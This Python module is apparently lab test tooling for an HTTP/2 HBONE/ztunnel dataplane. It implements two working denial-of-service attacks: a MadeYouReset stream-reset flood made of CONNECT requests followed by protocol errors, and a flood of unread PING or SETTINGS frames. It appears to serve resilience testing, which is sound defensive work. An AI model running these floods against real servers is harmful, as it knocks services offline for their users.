"""Attackers for tests/lab/test_ztunnel_probe2.py, run inside lab pods as tests/lab/hbone_tools.py's
are (`ambit lab exec NS/POD -- python -m tests.lab.probe2_tools MODE ...`); each prints one JSON line."""

from __future__ import annotations

import argparse
import socket
import sys
import time

import h2.exceptions

from ambit.dataplane.hbone import frames as f
from tests.lab.hbone_tools import H2, client_ctx, dial, goaway_info, out


def _window_update(sid: int, inc: int) -> bytes:
    return f.pack_header(4, f.WINDOW_UPDATE, 0, sid) + inc.to_bytes(4, "big")


def made_you_reset(a: argparse.Namespace) -> None:
    """CONNECTs each followed by a protocol error that makes the server reset the stream itself
    (`--kind`), as fast as possible, until GOAWAY or `--max` streams (MadeYouReset)."""
    c = H2(dial(client_ctx(a.cert), a.ip), ignore_limits=True)
    t0 = time.monotonic()
    streams = 0
    try:
        while streams < a.max and c.goaway is None and not c.closed:
            raw = b""
            for _ in range(50):
                sid = c.c.get_next_available_stream_id()
                end = a.kind == "data-after-end"
                c.c.send_headers(sid, [(":method", "CONNECT"), (":authority", a.authority)], end_stream=end)
                raw += c.c.data_to_send()
                raw += (f.pack_header(1, f.DATA, 0, sid) + b"x" if end
                        else _window_update(sid, 0 if a.kind == "window-update-0" else 0x7FFFFFFF))
                streams += 1
            c.sock.sendall(raw)
            c.read_some(0.0001)
    except (OSError, h2.exceptions.ProtocolError):
        pass
    c.read_until(lambda: c.goaway is not None or c.closed, 10)
    out(streams=streams, answered=len(c.statuses()), seconds=round(time.monotonic() - t0, 3), **goaway_info(c))


def unread_flood(a: argparse.Namespace) -> None:
    """PINGs (or SETTINGS) as fast as the server takes them, never reading its answers, until the
    server cuts the connection or `--mib` MiB went out."""
    s = dial(client_ctx(a.cert), a.ip)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    s.sendall(f.PREFACE + f.pack_header(0, f.SETTINGS, 0, 0))
    frame = (f.pack_header(8, f.PING, 0, 0) + b"12345678" if a.frame == "ping" else
             f.pack_header(6, f.SETTINGS, 0, 0) + (4).to_bytes(2, "big") + (65535).to_bytes(4, "big"))
    burst = frame * 1000
    sent, cut = 0, ""
    s.settimeout(10)
    try:
        while sent < a.mib * 1024 * 1024:
            s.sendall(burst)
            sent += len(burst)
    except OSError as e:
        cut = type(e).__name__
    out(sent_mib=round(sent / 1024 / 1024, 1), cut=cut)


def main(argv: list[str] | None = None) -> None:
    ap = argparse.ArgumentParser()
    sub = ap.add_subparsers(dest="mode", required=True)
    p = sub.add_parser("made-you-reset")
    p.set_defaults(fn=made_you_reset)
    p.add_argument("--kind", choices=["window-update-0", "window-overflow", "data-after-end"], required=True)
    p.add_argument("--authority", required=True)
    p.add_argument("--max", type=int, default=20_000)
    p = sub.add_parser("unread-flood")
    p.set_defaults(fn=unread_flood)
    p.add_argument("--frame", choices=["ping", "settings"], required=True)
    p.add_argument("--mib", type=int, default=100)
    for p in sub.choices.values():
        p.add_argument("--cert", required=True)
        p.add_argument("--ip", required=True)
    a = ap.parse_args(argv)
    a.fn(a)


if __name__ == "__main__":
    sys.exit(main())
